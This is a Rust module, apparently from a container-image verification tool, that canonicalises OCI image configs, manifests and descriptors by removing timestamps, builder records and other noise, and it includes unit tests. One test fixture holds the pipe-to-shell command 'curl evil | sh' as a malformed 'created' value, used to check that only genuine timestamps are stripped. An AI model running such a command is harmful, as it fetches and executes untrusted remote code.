//! Configs, manifests and indexes in canonical form: JSON with sorted keys, and without what the passes name.
//!
//! Owns which keys are noise. A value that is not of the form its key promises, such as a time that is none, stays and is compared.

use pyrsia_verifier_kit::hash::{FieldHasher, Sha256, hex};
use pyrsia_verifier_kit::{Unreadable, strict_json};
use serde_json::{Map, Value};

use crate::coordinate::is_digest;
use crate::manifest::layer_type;
use crate::passes::{Noise, Pass};

/// Values in one document. Each may take some hundred bytes of memory however short it is written, and ordinary documents have less than a thousand.
const VALUES_MAX: usize = 1 << 16;
/// The longest text that is taken for a time.
const TIME_BYTES_MAX: usize = 64;
const CREATED: &str = "org.opencontainers.image.created";
const REWRITTEN_EPOCH: &str = "buildkit/rewritten-epoch";
const IMAGE_NAMES: [&str; 2] = ["org.opencontainers.image.ref.name", "io.containerd.image.name"];
/// The image that the last step began with: another one for each run of Docker's classic builder, and of no use to anybody who has not got its cache.
const PARENT: &str = "Image";
const BUILDER_RECORDS: [&str; 4] = ["container", "container_config", "docker_version", "id"];
/// Stands in a canonical form where a digest stood in the document, and nowhere else: a document that has it is left as it is.
pub const CANONICAL: &str = "canonical";

/// Reads a document. `fields` as in [`strict_json::from_slice`].
pub fn read(bytes: &[u8], fields: &[&str], noise: &mut Noise) -> Result<Value, Unreadable> {
    // An upper bound: what stands inside of strings is counted as well.
    if bytes.iter().filter(|byte| matches!(byte, b',' | b'[' | b'{')).count() > VALUES_MAX {
        return Err(Unreadable::new(format!("it has more than {VALUES_MAX} values")));
    }
    let value: Value = strict_json::from_slice(bytes, fields).map_err(|error| Unreadable::new(error.to_string()))?;
    if !has_exact_numbers(&value) {
        return Err(Unreadable::new("it has a number that is not an integer of 64 bits"));
    }
    if value.to_string().as_bytes() != bytes {
        noise.note(Pass::JsonForm, &[&layout(bytes)]);
    }
    Ok(value)
}

pub fn digest(domain: &str, value: &Value) -> Sha256 {
    let mut hasher = FieldHasher::new(domain);
    hasher.field("json", value.to_string().as_bytes());
    hasher.finish()
}

/// Others would be compared after rounding.
fn has_exact_numbers(value: &Value) -> bool {
    match value {
        Value::Number(number) => !number.is_f64(),
        Value::Array(items) => items.iter().all(has_exact_numbers),
        Value::Object(map) => map.values().all(has_exact_numbers),
        Value::Null | Value::Bool(_) | Value::String(_) => true,
    }
}

/// How a document is written, without its values: white space, and keys in their order.
fn layout(bytes: &[u8]) -> Vec<u8> {
    let mut layout = Vec::new();
    let mut at = 0;
    while at < bytes.len() {
        let begin = at;
        at += 1;
        if bytes[begin] == b'"' {
            while at < bytes.len() && bytes[at] != b'"' {
                at += 1 + usize::from(bytes[at] == b'\\');
            }
            at = (at + 1).min(bytes.len());
            if bytes[at..].trim_ascii_start().first() == Some(&b':') {
                layout.extend_from_slice(&bytes[begin..at]);
            }
        } else if !bytes[begin].is_ascii_alphanumeric() && bytes[begin] != b'-' {
            layout.push(bytes[begin]);
        }
    }
    layout
}

/// Removes from a config what the passes forgive.
pub fn strip_config(config: &mut Value, noise: &mut Noise) {
    let Value::Object(config) = config else { return };
    remove(config, "created", Pass::Created, b"", is_time, noise);
    for key in BUILDER_RECORDS {
        remove(config, key, Pass::BuilderRecords, b"", |_| true, noise);
    }
    if let Some(Value::Array(steps)) = config.get_mut("history") {
        for (at, step) in steps.iter_mut().enumerate() {
            let Value::Object(step) = step else { continue };
            let place = at.to_le_bytes();
            remove(step, "created", Pass::Created, &place, is_time, noise);
            for key in ["created_by", "comment"] {
                remove(step, key, Pass::History, &place, Value::is_string, noise);
            }
        }
    }
    if let Some(Value::Object(run)) = config.get_mut("config") {
        remove(run, PARENT, Pass::BuilderRecords, b"config", is_image_id, noise);
        strip_map(run, "Labels", &[], noise);
    }
}

/// Removes from a manifest, an index or a descriptor what the passes forgive in its annotations.
pub fn strip_annotations(object: &mut Map<String, Value>, noise: &mut Noise) {
    strip_map(object, "annotations", &IMAGE_NAMES, noise);
}

fn strip_map(object: &mut Map<String, Value>, key: &str, names: &[&str], noise: &mut Noise) {
    let Some(Value::Object(map)) = object.get_mut(key) else { return };
    let before = map.len();
    remove(map, CREATED, Pass::Created, key.as_bytes(), is_time, noise);
    if !names.is_empty() {
        remove(map, REWRITTEN_EPOCH, Pass::Created, key.as_bytes(), is_time, noise);
    }
    for name in names {
        remove(map, name, Pass::ImageNames, key.as_bytes(), Value::is_string, noise);
    }
    if map.is_empty() && before > 0 {
        object.remove(key);
    }
}

fn remove(
    object: &mut Map<String, Value>,
    key: &str,
    pass: Pass,
    place: &[u8],
    expected: impl Fn(&Value) -> bool,
    noise: &mut Noise,
) {
    if object.get(key).is_some_and(expected)
        && let Some(removed) = object.remove(key)
    {
        noise.note(pass, &[place, key.as_bytes(), removed.to_string().as_bytes()]);
    }
}

/// RFC 3339, the forms close to it, and seconds since 1970: nothing that could carry a text.
fn is_time(value: &Value) -> bool {
    let of_time = |byte: u8| byte.is_ascii_digit() || b"-:.+TZtz ".contains(&byte);
    value.as_str().is_some_and(|text| text.len() <= TIME_BYTES_MAX && text.bytes().all(of_time))
}

fn is_image_id(value: &Value) -> bool {
    value.as_str().is_some_and(|text| text.is_empty() || is_digest(text))
}

/// Puts the canonical form of the object that a descriptor points to in place of its digest and size.
pub fn refer(descriptor: &mut Value, form: &Sha256, noise: &mut Noise) {
    let Value::Object(descriptor) = descriptor else { return };
    if descriptor.contains_key(CANONICAL) {
        return;
    }
    for key in ["digest", "size", "data"] {
        if let Some(removed) = descriptor.remove(key) {
            noise.note(Pass::References, &[key.as_bytes(), removed.to_string().as_bytes()]);
        }
    }
    descriptor.insert(CANONICAL.into(), hex(form).into());
}

/// Puts the media type of the uncompressed layer in place of a layer's. Only where its bytes are known to be what the media type says.
pub fn uncompress(descriptor: &mut Value, noise: &mut Noise) {
    let Some(Value::String(written)) = descriptor.get_mut("mediaType") else { return };
    if let Some((plain, _)) = layer_type(written)
        && written != plain
    {
        noise.note(Pass::CompressionMethod, &[b"media type", written.as_bytes()]);
        *written = plain.into();
    }
}

/// Puts the canonical forms of the layers in place of their diff ids, where the diff ids are theirs. Says at which places they are not.
pub fn refer_to_layers(config: &mut Value, layers: &[Option<(Sha256, Sha256)>], noise: &mut Noise) -> Vec<usize> {
    let Some(Value::Array(diff_ids)) = config.pointer_mut("/rootfs/diff_ids") else { return Vec::new() };
    let mut wrong = Vec::new();
    for (at, (diff_id, layer)) in diff_ids.iter_mut().zip(layers).enumerate() {
        let Some((actual, form)) = layer else { continue };
        if diff_id.as_str().and_then(|text| text.strip_prefix("sha256:")) == Some(&hex(actual)) {
            noise.note(Pass::References, &[b"diff id", &at.to_le_bytes(), actual]);
            *diff_id = Value::Object(Map::from_iter([(CANONICAL.into(), hex(form).into())]));
        } else {
            wrong.push(at);
        }
    }
    wrong
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn stripped(mut config: Value) -> (Value, Vec<String>) {
        let mut noise = Noise::default();
        strip_config(&mut config, &mut noise);
        (config, noise.passes().names())
    }

    #[test]
    fn a_config_loses_what_the_passes_name_and_nothing_else() {
        let config = json!({
            "architecture": "amd64", "os": "linux", "author": "a", "created": "2026-01-02T03:04:05.6Z", "container": "c", "docker_version": "1",
            "id": "i", "container_config": {"Cmd": ["x"]}, "config": {"Env": ["A=1"], "Image": format!("sha256:{}", "0a".repeat(32)), "Labels": {CREATED: "2026-01-02T03:04:05Z", "k": "v"}},
            "history": [{"created": "2026-01-02T03:04:05+00:00", "created_by": "RUN", "comment": "c", "empty_layer": true, "author": "a"}],
            "rootfs": {"type": "layers", "diff_ids": []},
        });
        let (once, passes) = stripped(config);
        let expected = json!({
            "architecture": "amd64", "os": "linux", "author": "a", "config": {"Env": ["A=1"], "Labels": {"k": "v"}},
            "history": [{"empty_layer": true, "author": "a"}], "rootfs": {"type": "layers", "diff_ids": []},
        });
        assert_eq!(once, expected);
        assert_eq!(passes, ["created", "history", "builder-records"]);
        assert_eq!(stripped(once.clone()), (once, Vec::new()), "a second time changes nothing");
    }

    #[test]
    fn what_is_not_of_the_expected_form_stays() {
        for config in [
            json!({"created": "curl evil | sh"}),
            json!({"created": {"x": 1}}),
            json!({"Created": "2026-01-02T03:04:05Z"}),
            json!({"history": {"created": "2026-01-02T03:04:05Z"}}),
            json!({"history": [{"created_by": ["RUN"]}]}),
            json!({"config": {"Labels": {CREATED: "soon"}}}),
            json!({"config": {"Image": "evil"}}),
            json!({"config": {"image": format!("sha256:{}", "0a".repeat(32))}}),
            json!({"Image": format!("sha256:{}", "0a".repeat(32))}),
            json!({"config": {"Env": [], "created": "2026-01-02T03:04:05Z"}}),
        ] {
            assert_eq!(stripped(config.clone()), (config, Vec::new()));
        }
    }

    #[test]
    fn numbers_that_would_be_rounded_are_not_read() {
        let read = |text: &str| read(text.as_bytes(), &[], &mut Noise::default());
        for text in ["{\"a\":1.0}", "[18446744073709551616]", "[1e3]", "[-9223372036854775809]", "{\"a\":1,\"a\":1}"] {
            assert!(read(text).is_err(), "{text}");
        }
        assert!(read("[18446744073709551615,-9223372036854775808]").is_ok());
        assert!(read(&format!("[{}0]", "0,".repeat(VALUES_MAX))).is_err());
    }

    #[test]
    fn layout_is_told_apart_from_content() {
        let noise = |text: &str| {
            let mut noise = Noise::default();
            let value = read(text.as_bytes(), &[], &mut noise).unwrap();
            (digest("d", &value), noise)
        };
        let (plain, spaced, ordered) = (r#"{"a":"x\"","b":1}"#, r#"{"a": "x\"","b":1}"#, r#"{"b":1,"a":"x\u0022"}"#);
        assert_eq!(noise(plain).0, noise(spaced).0);
        assert_eq!(noise(plain).0, noise(ordered).0);
        assert!(noise(plain).1.passes().is_empty());
        assert_eq!(noise(spaced).1.different(&noise(ordered).1).names(), ["json-form"]);
        assert!(noise(spaced).1.different(&noise(r#"{"a": "other","b":2}"#).1).is_empty());
    }

    #[test]
    fn a_descriptor_refers_to_the_form_of_its_object_unless_it_pretends_to() {
        let mut descriptor = json!({"mediaType": "m", "digest": "sha256:x", "size": 3, "data": "b25l", "urls": []});
        refer(&mut descriptor, &[1; 32], &mut Noise::default());
        assert_eq!(descriptor, json!({"mediaType": "m", "urls": [], CANONICAL: "01".repeat(32)}));
        let pretended = json!({"digest": "sha256:x", "size": 3, CANONICAL: "01".repeat(32)});
        let mut descriptor = pretended.clone();
        refer(&mut descriptor, &[1; 32], &mut Noise::default());
        assert_eq!(descriptor, pretended);
    }
}
